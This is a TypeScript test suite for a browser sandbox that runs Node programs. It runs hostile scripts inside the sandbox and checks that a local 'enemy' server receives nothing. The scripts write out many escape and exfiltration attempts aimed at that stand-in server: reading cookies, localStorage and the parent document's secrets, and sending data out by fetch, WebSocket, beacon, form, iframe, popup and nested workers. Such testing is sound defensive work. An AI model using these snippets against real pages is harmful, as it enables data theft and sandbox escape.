/**
 * Programs that try to leave the sandbox. A server that answers everything and counts what reaches it hears nothing;
 * the page keeps its secrets, its address and its windows.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { build } from 'esbuild';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type * as Frame from '../../src/runtime/sandbox/frame.ts';
import { chromiumOfFile } from '../support/chromium.ts';
import { finished } from '../support/finished.ts';
import { openRemote } from '../support/remote-runtime.ts';
import { type RuntimePages, serveRuntimePage } from '../support/runtime-page.ts';

const FRAME = join(import.meta.dirname, '../../src/runtime/sandbox/frame.ts');
const SECRET = 'bí mật của trang';

const browser = chromiumOfFile();
let pages: RuntimePages;
let enemy: Server;
let enemyOrigin: string;
const hits: string[] = [];

beforeAll(async () => {
  pages = await serveRuntimePage();
  enemy = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('export default "reached"; postMessage("reached")');
  });
  enemy.on('upgrade', (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => enemy.listen(0, '127.0.0.1', resolve));
  enemyOrigin = `http://127.0.0.1:${(enemy.address() as AddressInfo).port}`;
});
afterAll(async () => {
  enemy.closeAllConnections();
  enemy.close();
  await pages.close();
});
afterEach(() => hits.splice(0));

async function pageWithSecrets(): Promise<Page> {
  const page = await pages.open(browser());
  await page.evaluate((secret) => {
    localStorage.setItem('secret', secret);
    sessionStorage.setItem('secret', secret);
    document.cookie = 'secret=cookie';
    document.body.dataset['secret'] = secret;
  }, SECRET);
  return page;
}

async function expectUntouched(page: Page): Promise<void> {
  expect(hits).toEqual([]);
  expect(page.url()).toBe(`${pages.origin}/`);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => localStorage.length + sessionStorage.length)).toBe(2);
}

/** Each line is one attempt; what it answers or throws is printed, and nothing of it may be a success. */
const attempts = (origin: string): string => `
const enemy = ${JSON.stringify(origin)};
const wide = globalThis;
const withTimeout = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1500, 'no answer'))]);
const attempts = {
  document: () => typeof wide.document, window: () => typeof wide.window, parent: () => typeof wide.parent, top: () => typeof wide.top,
  self: () => typeof wide.self, location: () => typeof wide.location, postMessage: () => typeof wide.postMessage,
  localStorage: () => wide.localStorage.getItem('secret'),
  indexedDB: () => new Promise((resolve, reject) => { const open = wide.indexedDB.open('x'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(open.error); }),
  caches: () => wide.caches.keys(), cookieStore: () => wide.cookieStore.getAll(),
  openDatabase: () => wide.navigator.storage.getDirectory(),
  eval: () => (0, eval)('1 + 1'),
  Function: () => Function('return 1 + 1')(),
  asyncFunction: () => (async () => {}).constructor('return 1 + 1')(),
  timerOfText: () => { setTimeout('1 + 1'); return 'set'; },
  'import of a URL': () => import(enemy + '/import.js'),
  'import of data': () => import('data:text/javascript,export default 1'),
  'import of a blob': () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  fetch: () => fetch(enemy + '/fetch').then((response) => response.status),
  'fetch elsewhere': () => fetch('http://example.com/').then((response) => response.status),
  XMLHttpRequest: () => { const request = new wide.XMLHttpRequest(); request.open('GET', enemy + '/xhr', false); request.send(); return request.status; },
  WebSocket: () => new Promise((resolve, reject) => { const socket = new WebSocket(enemy.replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('closed')); }),
  EventSource: () => new wide.EventSource(enemy + '/events').url,
  importScripts: () => { wide.importScripts(enemy + '/import-scripts.js'); return 'imported'; },
  Worker: () => new Promise((resolve, reject) => { const worker = new wide.Worker(enemy + '/worker.js'); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error('refused')); }),
  SharedWorker: () => new wide.SharedWorker(enemy + '/shared.js').port,
  RTCPeerConnection: () => new wide.RTCPeerConnection(),
  WebTransport: () => new wide.WebTransport(enemy.replace('http', 'https')).ready,
  BroadcastChannel: () => new BroadcastChannel('x').name,
  open: () => wide.open(enemy + '/popup'),
  'globals of the prototypes': () => {
    const found = [];
    for (let at = Object.getPrototypeOf(wide); at; at = Object.getPrototypeOf(at)) {
      for (const key of Object.getOwnPropertyNames(at)) if (/fetch|importScripts|postMessage|Worker|indexedDB|caches|location/.test(key)) found.push(key);
    }
    return found;
  },
  'functions of the stack': () => {
    const before = Error.prepareStackTrace;
    Error.prepareStackTrace = (_, frames) => frames.flatMap((frame) => [frame.getThis(), frame.getFunction()]).filter(Boolean);
    const found = new Error().stack;
    Error.prepareStackTrace = before;
    return found.map((it) => typeof it);
  },
};
const results = {};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    results[name] = await withTimeout(Promise.resolve(attempt()));
  } catch (error) {
    results[name] = 'failed: ' + error?.name;
  }
}
console.log(JSON.stringify(results));
process.exit(0);
`;

/** What a program may learn: that there is nothing there, or that it failed. */
const HARMLESS: Readonly<Record<string, unknown>> = {
  document: 'undefined',
  window: 'undefined',
  parent: 'undefined',
  top: 'undefined',
  self: 'undefined',
  location: 'undefined',
  postMessage: 'undefined',
  'globals of the prototypes': [],
  'functions of the stack': [],
};

it('the server hears what is not held back', async () => {
  const page = await pages.open(browser());
  await page.evaluate((origin) => fetch(`${origin}/control`), enemyOrigin);
  expect(hits).toEqual(['GET /control']);
  await page.context().close();
});

describe('a program in the sandbox', () => {
  it('reaches nothing outside by any way that it knows', async () => {
    const page = await pageWithSecrets();
    const runtime = await openRemote(page, 'sandbox', { libraries: [] });
    await runtime.write({ 'package.json': '{ "type": "module" }', 'main.js': attempts(enemyOrigin) });
    const { stdout, stderr } = await finished(await runtime.spawn('node', ['main.js'], { name: 'enemy' }));
    expect(stderr).toBe('');
    for (const [name, result] of Object.entries(JSON.parse(stdout) as Record<string, unknown>)) {
      if (name in HARMLESS) expect(result, name).toEqual(HARMLESS[name]);
      else expect(result, name).toMatch(/^failed: |^no answer$/);
    }
    await expectUntouched(page);
    await page.context().close();
  });
});

/** Runs as the frame's own document, with a DOM: what would happen if a program ever got that far. */
const hostileHost = (origin: string): string => `
const enemy = ${JSON.stringify(origin)};
const { port } = self.sandboxStart;
const raw = (name, code) => new Promise((resolve) => {
  const worker = new Worker(URL.createObjectURL(new Blob(['(async () => { try { postMessage(await (' + code + ')()); } catch (error) { postMessage("failed: " + error.name); } })()'])));
  worker.onmessage = ({ data }) => resolve([name, String(data)]);
  worker.onerror = () => resolve([name, 'failed: worker']);
  setTimeout(resolve, 1500, [name, 'no answer']);
});
const here = async (name, attempt) => {
  try { return [name, String(await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 1000, 'no answer'))]))]; }
  catch (error) { return [name, 'failed: ' + error.name]; }
};
const image = (src) => new Promise((resolve, reject) => { const it = new Image(); it.onload = () => resolve('loaded'); it.onerror = () => reject(new Error()); it.src = src; });
(async () => {
  const results = Object.fromEntries(await Promise.all([
    raw('worker fetch', '() => fetch("' + enemy + '/w-fetch").then((r) => r.status)'),
    raw('worker import', '() => import("' + enemy + '/w-import.js").then(() => "imported")'),
    raw('worker importScripts', 'async () => { importScripts("' + enemy + '/w-is.js"); return "imported"; }'),
    raw('worker socket', '() => new Promise((resolve, reject) => { const s = new WebSocket("' + enemy.replace('http', 'ws') + '/w-ws"); s.onopen = () => resolve("open"); s.onerror = reject; })'),
    raw('worker in a worker', '() => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(\\'' + enemy + '/nested\\').then(() => postMessage(1))"]))); w.onmessage = () => resolve("reached"); w.onerror = reject; })'),
    raw('worker storage', '() => indexedDB.open("x").result'),
    raw('worker origin', 'async () => "failed: " + origin'),
    here('parent document', () => parent.document.body.dataset.secret),
    here('parent storage', () => parent.localStorage.secret),
    here('own storage', () => localStorage.secret),
    here('cookie', () => document.cookie),
    here('fetch', () => fetch(enemy + '/fetch').then((r) => r.status)),
    here('image', () => image(enemy + '/image')),
    here('beacon', async () => (navigator.sendBeacon(enemy + '/beacon'), 'no answer')),
    here('style', async () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = enemy + '/style'; document.head.append(link); return 'no answer'; }),
    here('frame', async () => { const frame = document.createElement('iframe'); frame.src = enemy + '/frame'; document.body.append(frame); return 'no answer'; }),
    here('form', async () => { const form = document.createElement('form'); form.action = enemy + '/form'; document.body.append(form); form.submit(); return 'no answer'; }),
    here('top navigation', () => { top.location.href = enemy + '/top'; return 'no answer'; }),
    here('popup', () => 'failed: ' + window.open(enemy + '/popup')),
    here('service worker', () => navigator.serviceWorker.register(enemy + '/sw.js')),
  ]));
  port.postMessage({ type: 'ready', results });
})();
`;

describe('the frame itself', () => {
  it('holds whatever runs in it, even with a document of its own', async () => {
    const page = await pageWithSecrets();
    const { outputFiles } = await build({
      entryPoints: [FRAME],
      bundle: true,
      write: false,
      format: 'iife',
      globalName: 'frame',
    });
    await page.addScriptTag({ content: outputFiles[0]?.text ?? '' });
    const results = await page.evaluate(async (host) => {
      const { openFrame } = (globalThis as unknown as { frame: typeof Frame }).frame;
      let told: unknown;
      const start = { host, kernel: '', nodeVersion: '', libraries: [] };
      const opened = await openFrame({
        start,
        onMessage: (message) => (told = (message as { results?: unknown }).results),
        signal: AbortSignal.timeout(10_000),
      });
      opened.remove();
      return told as Record<string, string>;
    }, hostileHost(enemyOrigin));
    expect(Object.keys(results).length).toBe(20);
    for (const [name, result] of Object.entries(results)) expect(result, name).toMatch(/^failed: |^no answer$|^$/);
    expect(results['worker origin']).toBe('failed: null');
    await expectUntouched(page);
    expect(await page.locator('iframe').count()).toBe(0);
    await page.context().close();
  });
});
